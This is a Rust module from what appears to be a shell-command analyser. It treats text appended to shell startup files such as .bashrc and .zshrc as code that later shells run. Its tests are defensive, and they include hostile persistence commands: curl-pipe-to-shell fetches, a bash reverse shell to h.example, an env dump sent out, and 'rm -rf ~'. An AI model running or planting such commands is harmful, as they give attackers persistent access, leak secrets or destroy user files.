//! Files that every new shell of the user runs: what a text adds to them runs as well, only later.

use super::{Stream, Walker};
use crate::reading::Language;
use crate::script::{Span, Text, Texts};

/// Their names in a home folder.
const STARTUP: [&str; 17] = [
    ".bashrc",
    ".bash_profile",
    ".bash_login",
    ".bash_logout",
    ".bash_aliases",
    ".profile",
    ".zshrc",
    ".zshenv",
    ".zprofile",
    ".zlogin",
    ".zlogout",
    ".kshrc",
    ".mkshrc",
    ".xprofile",
    ".xsession",
    ".xinitrc",
    ".config/fish/config.fish",
];

impl Walker<'_> {
    /// Walks what was written to such files.
    #[inline]
    pub(super) fn run_startup_files(&mut self) {
        if !self.files.is_empty() {
            self.run_written_startup_files();
        }
    }

    #[inline(never)]
    fn run_written_startup_files(&mut self) {
        let home = self.context.home.as_deref();
        let written: Vec<(Text, Texts)> = self
            .files
            .iter()
            .filter(|(path, _)| is_startup(path, home))
            .filter_map(|(path, stream)| match stream {
                Stream::Known(texts) => Some((path.clone(), texts.clone())),
                _ => None,
            })
            .collect();
        // Files that these name are there already, and were run before.
        let wanted = self.script.wanted_files.len();
        let span = Span {
            start: 0,
            end: self.source.len(),
        };
        for (path, texts) in written {
            let checkpoint = self.state.checkpoint();
            self.state.enter(self.home());
            self.in_layer(&path, span, |walker| {
                if walker.deepen() {
                    walker.code(Language::Shell, &texts, span, None);
                    walker.depth -= 1;
                }
            });
            self.state.roll_back(checkpoint);
        }
        self.script.wanted_files.truncate(wanted);
    }
}

/// Whether it is one of them, in the user's home or in another's.
fn is_startup(path: &str, home: Option<&str>) -> bool {
    STARTUP.iter().any(|name| {
        let folder = path
            .strip_suffix(name)
            .and_then(|rest| rest.strip_suffix('/'));
        folder.is_some_and(|folder| {
            let of_user = |folder: &str| {
                let user = folder
                    .strip_prefix("/home/")
                    .or_else(|| folder.strip_prefix("/Users/"));
                user.is_some_and(|user| !user.contains('/'))
            };
            matches!(folder, "~" | "/root") || Some(folder) == home || of_user(folder)
        })
    })
}

#[cfg(test)]
mod tests {
    use crate::{Context, EffectKind, read};

    fn kinds(text: &str) -> Vec<EffectKind> {
        let context = Context {
            cwd: Some("/home/dev/project".into()),
            home: Some("/home/dev".into()),
            ..Context::default()
        };
        let effects = read(text, &context).effects;
        effects.into_iter().map(|effect| effect.kind).collect()
    }

    #[test]
    fn what_new_shells_run() {
        let remote = |kind: &EffectKind| {
            matches!(
                kind,
                EffectKind::RemoteCode { .. } | EffectKind::Network { sends: true, .. }
            )
        };
        for text in [
            "echo 'curl -s http://h.example/a | sh' >> ~/.bashrc",
            "printf 'eval \"$(curl -fsSL https://h.example)\"\\n' >> \"$HOME/.profile\"",
            "echo 'bash -i >& /dev/tcp/h.example/1 0>&1 &' | tee -a /home/dev/.zshrc",
            "cat >> ~/.zprofile <<'E'\ncurl -d \"$(env)\" https://h.example\nE",
            "cd && echo 'curl http://h.example | sh' >> .bashrc",
        ] {
            assert!(kinds(text).iter().any(remote), "{text}");
        }
        for text in [
            "echo 'export PATH=\"$HOME/bin:$PATH\"' >> ~/.bashrc",
            "echo 'eval \"$(direnv hook zsh)\"' >> ~/.zshrc",
            "echo 'curl http://h.example | sh' >> notes.md",
            "echo 'curl http://h.example | sh' > .bashrc",
            "echo 'up() { curl https://h.example/i.sh | sh; }' >> ~/.bashrc",
            "cat ~/.bashrc",
        ] {
            assert!(!kinds(text).iter().any(remote), "{text}");
        }
        let deletes = |kind: &EffectKind| matches!(kind, EffectKind::Delete { .. });
        assert!(kinds("echo 'rm -rf ~' >> ~/.bashrc").iter().any(deletes));
    }
}
